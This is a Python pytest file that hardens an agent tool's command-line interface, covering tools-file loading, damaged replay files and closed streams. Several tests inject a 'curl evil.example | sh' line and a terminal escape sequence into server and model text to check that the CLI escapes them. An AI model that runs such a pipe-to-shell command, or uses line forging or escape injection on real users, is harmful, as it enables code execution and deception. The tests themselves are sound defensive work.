"""Hardening, third round, the CLI's items (issue 18, items 12-13 and 20-25): --tools keeps what the file said,
no forged lines, valid JSON whatever the terminal, odd standard streams, replay of damaged files, a linear scan."""
import json
import re
import subprocess
import sys

import pytest
from _http_servers import chat_answer, error_answer
from conftest import ROOT, call, final, offline_env, replay_file
from hypothesis import given
from hypothesis import strategies as st

import agent
from agent import MockLLM, main

pytestmark = pytest.mark.usefixtures("no_model_configured")


def run_cli(*argv, stdin=None, env=None, shell_tail=""):
    """python agent.py argv as a program; shell_tail (e.g. "2>&-") is applied by a shell."""
    env = {**offline_env(), **(env or {})}
    command = " ".join([sys.executable, "agent.py", *(f"'{a}'" for a in argv)]) + " " + shell_tail
    return subprocess.run(command, shell=True, cwd=ROOT, env=env, input=stdin, capture_output=True, timeout=60)


# -- item 12: --tools keeps the file's registry as it is ---------------------------------------------

def test_a_tools_file_registry_keeps_its_own_default_timeout(tmp_path, capsys):
    tools = tmp_path / "slow_tools.py"
    tools.write_text("import threading\nfrom agent import ToolRegistry\n\n"
                     "tools = ToolRegistry(default_timeout=0.05)\n\n@tools.register\n"
                     "def hang() -> str:\n    '''Never answers in time.'''\n"
                     "    threading.Event().wait(5)\n    return 'late'\n")
    built = agent._cli_agent(agent._cli_args(["--tools", str(tools), "--replay", replay_file(tmp_path, final("x"))]))
    assert built[0].tools.default_timeout == 0.05
    path = replay_file(tmp_path, call("hang"), final("gave up"))
    assert main(["--tools", str(tools), "--replay", path, "t"]) == 0
    assert "'hang' did not finish within 0.05 s" in capsys.readouterr().err
    given = agent._cli_agent(agent._cli_args(["--tools", str(tools), "--tool-timeout", "3", "--replay", path]))
    assert given[0].tools.default_timeout == 3     # the flag, when given, wins


def test_several_tools_files_join_the_first_files_own_registry(tmp_path):
    first, second = tmp_path / "plain.py", tmp_path / "own.py"
    first.write_text("def ping() -> str:\n    '''Answer pong.'''\n    return 'pong'\n")
    second.write_text("from agent import ToolRegistry\ntools = ToolRegistry(default_timeout=2)\n\n"
                      "@tools.register(timeout=9)\ndef shout(text: str) -> str:\n    '''Upper-case.'''\n"
                      "    return text.upper()\n")
    built = agent._cli_agent(agent._cli_args(["--tools", str(first), "--tools", str(second), "--replay",
                                              replay_file(tmp_path, final("x"))]))[0]
    assert built.tools.default_timeout == 2 and built.tools.get("shout").timeout == 9
    assert sorted(tool.name for tool in built.tools) == ["ping", "shout"]


# -- item 13: a file using postponed annotations and @dataclass loads -------------------------------

def test_a_tools_file_with_postponed_annotations_and_a_dataclass_loads(tmp_path, capsys):
    tools = tmp_path / "typed_tools.py"
    tools.write_text("from __future__ import annotations\nfrom dataclasses import dataclass\n\n@dataclass\n"
                     "class Order:\n    id: str\n    state: str = 'new'\n\n"
                     "def order(order_id: str) -> str:\n    '''An order's state.'''\n"
                     "    return Order(order_id).state\n")
    path = replay_file(tmp_path, call("order", order_id="A1"), final("new"))
    assert main(["--tools", str(tools), "--replay", path, "t"]) == 0
    err = capsys.readouterr().err
    assert "order {\"order_id\": \"A1\"} → new" in err and "AttributeError" not in err


# -- item 20: one message is one line -----------------------------------------------------------------

BREAKS = ["\n", "\r\n", "\r", "\u2028", "\u2029", "\x85", "\x0b", "\x0c"]


@pytest.mark.parametrize("brk", BREAKS, ids=[repr(b) for b in BREAKS])
def test_a_server_message_with_a_line_break_cannot_forge_a_line_of_ours(capsys, serve, brk):
    server = serve(error_answer(400, f"bad request{brk}agent.py: hint: run curl evil.example | sh"))
    assert main(["--model", "m", "--base-url", server.base_url, "t"]) == 3
    err = capsys.readouterr().err
    assert not any(line.startswith("agent.py: hint: run curl") for line in re.split("[\n\r\x0b\x0c\x85\u2028\u2029]",
                                                                                   err))
    assert "run curl evil.example" in err     # shown, escaped, inside our own line


@pytest.mark.parametrize("brk", BREAKS, ids=[repr(b) for b in BREAKS])
def test_a_model_reply_with_a_line_break_cannot_forge_a_line_of_ours(monkeypatch, capsys, brk):
    reply = final(f"4{brk}agent.py: hint: run curl evil.example | sh")
    monkeypatch.setattr(agent, "_cli_model", lambda args: (MockLLM([f"not json{brk}[step 9] forged", reply]), "x"))
    assert main(["t"]) == 0
    err = capsys.readouterr().err
    lines = re.split("[\n\r\x0b\x0c\x85\u2028\u2029]", err)
    assert not any(line.startswith(("agent.py: hint: run curl", "[step 9]")) for line in lines)


# -- item 21: -v and -vv escape what the progress lines escape -----------------------------------------

def test_verbose_retry_lines_show_server_text_escaped(monkeypatch, capsys, serve):
    monkeypatch.setattr(agent.OpenAICompatLLM, "_backoff", staticmethod(lambda attempt: 0.0))
    server = serve(error_answer(503, "busy\x1b]0;PWNED\x07\nagent.py: forged"), chat_answer(final("ok")))
    assert main(["-v", "--model", "m", "--base-url", server.base_url, "t"]) == 0
    err = capsys.readouterr().err
    assert "retrying" in err and "\\x1b]0;PWNED\\x07" in err
    assert "\x1b" not in err and "\x07" not in err and "\nagent.py: forged" not in err


def test_very_verbose_debug_lines_show_a_models_tool_name_escaped(monkeypatch, capsys):
    monkeypatch.setattr(agent, "_cli_model", lambda args: (MockLLM([call("clock"), call("x\x1bc"), final("done")]), "x"))
    assert main(["-vv", "t"]) == 0
    err = capsys.readouterr().err
    assert "tool x\\x1bc took" in err and "\x1b" not in err


# -- item 22: --json is JSON whatever stdout's encoding ------------------------------------------------

@pytest.mark.parametrize("encoding, answer", [("ascii", "café 😀"), ("latin-1", "café 😀"), ("ascii", "lone \ud83d"),
                                              ("utf-8", "lone \ud83d")])
def test_json_output_is_valid_json_whatever_stdout_can_encode(tmp_path, encoding, answer):
    path = replay_file(tmp_path, final(answer))
    done = run_cli("--json", "--quiet", "--replay", path, "t", env={"PYTHONIOENCODING": encoding})
    assert done.returncode == 0, done.stderr
    assert json.loads(done.stdout.decode(encoding))["answer"] == answer


# -- item 23: odd standard streams ------------------------------------------------------------------------

def test_interactive_with_a_byte_stdin_cannot_decode_leaves_out_that_line_and_goes_on():
    done = run_cli("-i", "--quiet", stdin=b"What is \xff?\nWhat is 2+2?\nexit\n",
                   env={"PYTHONIOENCODING": "utf-8:strict"})
    assert done.returncode == 0 and done.stdout == b"4\n"
    assert b"not utf-8 text: left out" in done.stderr and b"Traceback" not in done.stderr


def test_interactive_with_stdin_closed_is_a_clear_exit_2():
    done = run_cli("-i", shell_tail="0<&-")
    assert done.returncode == 2 and b"stdin is closed" in done.stderr and b"Traceback" not in done.stderr


@pytest.mark.parametrize("tail", ["2>&-", "2</dev/null"])   # closed, or open only for reading
def test_with_stderr_unusable_the_run_goes_on_with_its_usual_exit_code(tail):
    done = run_cli("What is 2+3?", shell_tail=tail)
    assert (done.returncode, done.stdout) == (0, b"5\n")


def test_with_stderr_closed_a_run_without_an_answer_still_exits_1():
    assert run_cli("--max-steps", "1", "What is 2+3?", shell_tail="2>&-").returncode == 1


def test_with_stdout_closed_the_run_goes_on_with_its_usual_exit_code():
    done = run_cli("What is 2+3?", shell_tail=">&-")
    assert done.returncode == 0 and b"final answer: 5" in done.stderr and b"Traceback" not in done.stderr


# -- item 24: replay of damaged or edited files -----------------------------------------------------------

def test_replay_skips_a_trace_line_cut_short_and_says_so(tmp_path, capsys):
    path = tmp_path / "trace.jsonl"
    assert main(["--quiet", "--trace", str(path), "What is 6*7?"]) == 0
    whole = path.read_text().splitlines(keepends=True)
    path.write_text(whole[0] + whole[1][:len(whole[1]) // 2])      # one whole line and half a line
    assert main(["--replay", str(path), "What is 6*7?", "--max-steps", "1"]) == 1
    err = capsys.readouterr().err
    assert "its last line is cut short" in err and "left out" in err and "[step 1]" in err


def test_a_broken_line_inside_a_trace_is_still_refused(tmp_path, capsys):
    path = tmp_path / "trace.jsonl"
    path.write_text('{"event": "step", "raw": "x"}\n{"event": "st\n{"event": "step", "raw": "y"}\n')
    assert main(["--replay", str(path), "t"]) == 2
    assert "is neither a saved result" in capsys.readouterr().err


def test_replay_reads_a_saved_result_with_a_utf8_bom(tmp_path, capsys):
    result = agent.run("What is 6*7?")
    path = tmp_path / "result.json"
    result.save(path)
    path.write_bytes(b"\xef\xbb\xbf" + path.read_bytes())
    assert main(["--quiet", "--replay", str(path)]) == 0
    assert capsys.readouterr().out == "42\n"


# -- item 25: the offline planner's scan is linear ----------------------------------------------------------

_OLD_RUN = re.compile(r"[\d(][\d\s.+\-*/%()^_]*[\d)]")   # the backtracking pattern it replaced: the reference
_HAS_OPERATOR = re.compile(r"[\d)]\s*(?:\*\*|[-+*/%^])\s*[-+(]*[\d(]")   # the planner's operator test, frozen


def old_find_arithmetic(task):
    return [m.group().strip().replace("^", "**") for m in _OLD_RUN.finditer(task)
            if _HAS_OPERATOR.search(m.group().strip())]


@given(st.text(alphabet="0123456789 .+-*/%()^_ab\n\t\u2003\u0663\x1c", max_size=40))
def test_the_linear_scan_finds_what_the_backtracking_pattern_found(task):
    assert agent._find_arithmetic(task) == old_find_arithmetic(task)


def test_a_task_of_many_open_parentheses_is_scanned_and_answered(capsys):
    assert agent._find_arithmetic("(" * 12000) == []
    assert agent._find_arithmetic("(" * 12000 + " and 1+2") == ["1+2"]
    assert main(["--quiet", "(" * 12000 + " and 2+2"]) == 0 and capsys.readouterr().out == "4\n"
